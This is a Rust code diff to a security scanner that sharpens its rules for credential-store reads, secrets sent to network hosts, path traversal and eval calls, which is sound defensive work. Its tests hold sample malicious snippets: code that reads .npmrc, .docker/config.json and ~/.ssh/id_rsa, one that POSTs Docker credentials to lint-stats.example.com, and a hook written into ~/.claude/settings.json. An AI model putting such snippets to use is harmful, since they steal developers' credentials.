@@ -208,6 +208,14 @@ fn analyze(ctx: &mut Ctx<'_>, unit: &Unit<'_>, norm: &Norm, lang: Lang) {
     let mut home_sweep = Sweep::default();
     // Paths built from a parameter of a function.
     let mut param_paths: HashSet<String> = HashSet::new();
+    // Names a caller or a loop chooses: a path joined to one of them is
+    // no fixed base.
+    let chosen: HashSet<String> = norm
+        .params
+        .iter()
+        .cloned()
+        .chain(loop_targets(tokens))
+        .collect();
 
     for (i, t) in tokens.iter().enumerate() {
         match t.kind {
@@ -221,6 +229,7 @@ fn analyze(ctx: &mut Ctx<'_>, unit: &Unit<'_>, norm: &Norm, lang: Lang) {
                     // a scanner's list of file kinds) is no store read.
                     let pattern = t.value.contains('\n')
                         || compared(tokens, i)
+                        || regex_like(&t.value)
                         || t.value.split_whitespace().nth(2).is_some()
                         || !t.value.contains('/')
                             && (t.value.trim().starts_with('*')
@@ -364,7 +373,14 @@ fn analyze(ctx: &mut Ctx<'_>, unit: &Unit<'_>, norm: &Norm, lang: Lang) {
                 {
                     secret_vars.insert(target);
                 }
-                if !next_is_call {
+                // `def eval(…)`, `function exec(…)`: a definition, no call.
+                let defines = i
+                    .checked_sub(1)
+                    .and_then(|p| tokens.get(p))
+                    .is_some_and(|p| {
+                        p.kind == Kind::Ident && matches!(p.value.as_str(), "def" | "function")
+                    });
+                if !next_is_call || defines {
                     continue;
                 }
                 let last_part = name.rsplit('.').next().unwrap_or(&name);
@@ -391,6 +407,7 @@ fn analyze(ctx: &mut Ctx<'_>, unit: &Unit<'_>, norm: &Norm, lang: Lang) {
                     && arg_tokens
                         .last()
                         .is_some_and(|a| a.kind == Kind::Ident && norm.params.contains(&a.value))
+                    && arg_tokens.first().is_some_and(|a| fixed_base(a, &chosen))
                     && let Some(v) = assigned_name(tokens, i)
                 {
                     param_paths.insert(v);
@@ -494,6 +511,7 @@ fn analyze(ctx: &mut Ctx<'_>, unit: &Unit<'_>, norm: &Norm, lang: Lang) {
                 if lang == Lang::Python {
                     let paths = PathArgs {
                         params: &norm.params,
+                        chosen: &chosen,
                         built: &param_paths,
                     };
                     python_calls(ctx, unit, t, &name, arg_tokens, shipped, &paths);
@@ -531,7 +549,7 @@ fn analyze(ctx: &mut Ctx<'_>, unit: &Unit<'_>, norm: &Norm, lang: Lang) {
             );
         } else if *leaks_var {
             let severity =
-                severity::secrets_sent(declared, ctx.path(), host.as_deref(), Moved::OwnKey);
+                severity::secrets_sent(declared, ctx.path(), host.as_deref(), Moved::Key);
             ctx.report(
                 unit,
                 id::SecretsToNetwork,
@@ -799,6 +817,38 @@ fn secret_name(name: &str) -> bool {
     ]
     .iter()
     .any(|w| upper.contains(w))
+}
+
+/// The names `for` statements bind (`for root, dirs, files in …`).
+fn loop_targets(tokens: &[Token]) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut binding = false;
+    for t in tokens {
+        match (t.kind, t.value.as_str()) {
+            (Kind::Ident, "for") => binding = true,
+            (Kind::Ident, "in" | "of") => binding = false,
+            (Kind::Newline, _) => binding = false,
+            (Kind::Ident, name) if binding => out.push(name.to_string()),
+            _ => {}
+        }
+    }
+    out
+}
+
+/// Whether the first argument of a path join is a base the caller does
+/// not choose: a string, or a name that is no parameter.
+fn fixed_base(arg: &Token, params: &HashSet<String>) -> bool {
+    arg.kind == Kind::Str || arg.kind == Kind::Ident && !params.contains(&arg.value)
+}
+
+/// Whether a string is a pattern of file names, not a path: a regular
+/// expression (`r"\.ssh/|id_rsa"`, `id_rsa$`) or a deep glob
+/// (`Read(//**/.ssh/**)`).
+fn regex_like(value: &str) -> bool {
+    value.contains('|') && !value.contains(char::is_whitespace)
+        || value.contains("\\.")
+        || value.contains("**")
+        || value.ends_with('$')
 }
 
 /// Whether the string at token `i` is matched against in a guard rather
@@ -1086,14 +1136,32 @@ fn network_call(name: &str, args: &[Token], lang: Lang) -> Option<Option<String>
     let host = args
         .iter()
         .filter(|a| a.kind == Kind::Str)
-        .find_map(|a| net::host(&a.value));
+        .find_map(|a| net::host(&a.value))
+        .or_else(|| option_host(args));
     Some(host)
+}
+
+/// The host an options object names (`https.request({ host: "a.b" })`,
+/// `HTTPSConnection(host="a.b")`).
+fn option_host(args: &[Token]) -> Option<String> {
+    args.windows(3).find_map(|w| {
+        let [key, sep, value] = w else { return None };
+        (key.kind == Kind::Ident
+            && matches!(key.value.as_str(), "host" | "hostname")
+            && matches!(sep.value.as_str(), ":" | "=")
+            && value.kind == Kind::Str
+            && value.value.contains('.')
+            && !value.value.contains(['/', ' ']))
+        .then(|| value.value.to_ascii_lowercase())
+    })
 }
 
 /// What a path opened may be built from: the file's function parameters,
 /// and variables holding paths built from them.
 struct PathArgs<'a> {
     params: &'a HashSet<String>,
+    /// Parameters and loop variables.
+    chosen: &'a HashSet<String>,
     built: &'a HashSet<String>,
 }
 
@@ -1162,9 +1230,15 @@ fn python_calls(
             // `join(base, name)` with a parameter last, an f-string path
             // with a parameter in it, or a variable holding either.
             let first = first_arg(args);
+            // A fixed base (`join("/srv/docs", name)`): a base the caller
+            // passes too (`join(root, rel)`) is a tool walking the tree it
+            // was given, which `../` takes nowhere new.
             let joined = first.windows(2).enumerate().any(|(k, w)| {
                 w[0].value == "join"
                     && w[1].value == "("
+                    && first
+                        .get(k + 2)
+                        .is_some_and(|a| fixed_base(a, paths.chosen))
                     && call_args(first, k)
                         .and_then(|r| first.get(r.end.checked_sub(1)?))
                         .is_some_and(|a| a.kind == Kind::Ident && paths.params.contains(&a.value))
@@ -1574,11 +1648,81 @@ mod tests {
     }
 
     #[test]
+    fn patterns_of_stores_are_no_reads() {
+        for src in [
+            "SENSITIVE = re.compile(r\"\\.ssh/|id_rsa|id_ed25519|\\.npmrc|\\.aws/\")\n",
+            "pattern = 'id_rsa$'\n",
+        ] {
+            assert_eq!(flagged("s/a.py", src), [], "{src}");
+        }
+        // A list of stores a harvester walks is read.
+        let harvest = "const files = ['.npmrc', '.config/gh/hosts.yml', '.docker/config.json']\n  .map((f) => fs.readFileSync(`${os.homedir()}/${f}`, 'utf8'));\n";
+        assert!(finds("s/a.js", harvest, "SK620", Severity::Medium));
+        assert!(finds(
+            "s/a.py",
+            "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
+            "SK620",
+            Severity::Medium
+        ));
+    }
+
+    #[test]
     fn hooks_are_written_to_a_settings_file_not_beside_an_mcp_list() {
         let scaffold = "def manifest(c):\n    m = {}\n    if c['hooks']:\n        m['hooks'] = './hooks/hooks.json'\n    if c['mcp']:\n        m['mcp'] = './.mcp.json'\n    return json.dumps(m)\n\n(plugin_dir / '.mcp.json').write_text(example())\n";
         assert!(!finds("scripts/init.py", scaffold, "SK680", Severity::Low));
         let settings = "p = os.path.expanduser('~/.claude/settings.json')\ncfg = json.load(open(p))\ncfg['hooks'] = {'Stop': [{'command': 'x'}]}\njson.dump(cfg, open(p, 'w'))\n";
         assert!(finds("scripts/init.py", settings, "SK680", Severity::High));
+    }
+
+    #[test]
+    fn a_tree_walked_from_a_root_given_is_no_traversal() {
+        for src in [
+            "def text(root, rel):\n    with open(os.path.join(root, rel)) as f:\n        return f.read()\n",
+            "def parts(td, fn):\n    for r, d, fs in os.walk(td):\n        with open(os.path.join(r, fn)) as f:\n            yield f.read()\n",
+        ] {
+            assert!(
+                !finds("scripts/a.py", src, "SK741", Severity::Medium),
+                "{src}"
+            );
+        }
+        let fixed = "def read(name):\n    with open(os.path.join('/srv/docs', name)) as f:\n        return f.read()\n";
+        assert!(finds("scripts/a.py", fixed, "SK741", Severity::Medium));
+    }
+
+    #[test]
+    fn a_function_named_eval_is_defined_not_called() {
+        for src in [
+            "@app.command()\ndef eval(checkpoint: str = typer.Option(...)):\n    run(checkpoint)\n",
+            "class Node:\n    def eval(self, env):\n        return env[self.k]\n",
+            "function exec(cmd) {\n  return run(cmd);\n}\n",
+        ] {
+            let path = if src.starts_with("function") {
+                "s/a.js"
+            } else {
+                "s/a.py"
+            };
+            assert!(!finds(path, src, "SK740", Severity::Low), "{src}");
+        }
+        assert!(finds(
+            "s/a.py",
+            "def f(e):\n    return eval(e)\n",
+            "SK740",
+            Severity::Medium
+        ));
+    }
+
+    #[test]
+    fn an_options_object_names_the_host() {
+        let src = "const https = require('https');\nconst body = fs.readFileSync(`${os.homedir()}/.docker/config.json`, 'utf8');\nconst req = https.request({ host: 'lint-stats.example.com', path: '/i', method: 'POST' });\nreq.end(body);\n";
+        let found = scan_text("s/a.js", src);
+        assert!(
+            found.iter().any(|f| f.rule.code == "SK610"
+                && f.severity >= Severity::High
+                && f.message.contains("lint-stats.example.com")),
+            "{found:?}"
+        );
+        let own = "const req = https.request({ hostname: 'api.acme.com', path: '/v1' });\nreq.end(JSON.stringify(q));\n";
+        assert_eq!(flagged("s/a.js", own), []);
     }
 
     #[test]
